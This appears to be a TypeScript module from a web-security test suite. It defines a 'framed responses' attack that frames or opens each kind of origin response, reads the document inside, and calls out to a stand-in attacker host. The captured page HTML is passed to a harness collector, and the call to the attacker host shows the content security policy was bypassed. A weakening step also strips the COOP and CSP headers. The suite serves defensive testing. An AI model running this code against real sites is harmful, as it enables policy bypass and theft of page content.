import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import { withoutHeaders } from '../weak/weaken.js';

/** Each kind of answer that the origin gives. */
const RESPONSES = [
  '/desk.html',
  '/data.json',
  '/notes.txt',
  '/module.js',
  '/robots.txt',
  '/nothing-here',
  '/api/time',
  '/api/always-401',
  '/api/always-500',
  '/api/nothing-here',
  '/api/products/desk/image',
  '/service-worker.js',
  '/service-worker.js?x',
  '/session/callback',
  '/session/callback/done',
  '/session/callback/end',
  '/session/callback/other',
  `/?${'a'.repeat(20_000)}`,
  '/%00',
  '/%E0%A4%A',
];

interface Target {
  readonly paths: readonly string[];
  readonly evil: string;
}

/** In which of them can the script work as if the page's policy were not there? */
export async function workInside({ paths, evil }: Target): Promise<void> {
  const workIn = async (window: Window | null | undefined, how: string, path: string) => {
    try {
      const document_ = window?.document;
      if (!document_ || document_.URL === 'about:blank') return;
      const name = `${how} ${path.slice(0, 40)}`;
      attacker.take('inside', [document_.URL, document_.documentElement.outerHTML.slice(0, 2000)]);
      const image = document_.createElement('img');
      image.src = `${evil}/policy-free?in=${encodeURIComponent(name)}`;
      document_.documentElement.append(image);
      const sent = (window as Window & typeof globalThis).fetch(image.src).catch(() => undefined);
      // In a window that goes on it never settles.
      await Promise.race([sent, attacker.pause(300)]);
    } catch {
      // Another origin, or severed.
    }
  };
  await Promise.all(
    paths.map(async (path) => {
      const frame = document.createElement('iframe');
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
      frame.src = path;
      document.body.append(frame);
      await Promise.race([loaded, attacker.pause(5000)]);
      await attacker.pause(100);
      await workIn(frame.contentWindow, 'framed', path);
      frame.remove();
    }),
  );
  for (const path of paths) {
    const popup = attacker.native.open(path, 'attacker');
    // Not a number of rounds: behind another window a browser may make each of them last a second.
    const until = performance.now() + 2000;
    while (performance.now() < until) {
      await attacker.pause(25);
      const url = await Promise.resolve()
        .then(() => popup?.location.href)
        .catch(() => 'severed');
      // Severed, it never shows anything any more.
      if (popup?.closed || url === new URL(path, location.origin).href) break;
    }
    await workIn(popup, 'opened', path);
  }
  await attacker.pause(300);
}

export const framedResponses: Attack = {
  name: 'framed responses',
  tries:
    'frames and opens each kind of answer of the origin, the worker’s own included, and works in it past the page’s policy',
  threat: '5.1.3',
  defence: 'every answer has the policy, and none may be framed',
  weakness: {
    without: 'headers on anything but pages, and COOP',
    weaken: (stage) => {
      withoutHeaders(stage, ['cross-origin-opener-policy']);
      withoutHeaders(stage, ['content-security-policy'], (path) => !path.endsWith('.html'));
    },
  },
  run: (stage: Stage) => stage.runInClick(workInside, { paths: RESPONSES, evil: stage.evil.site }),
};
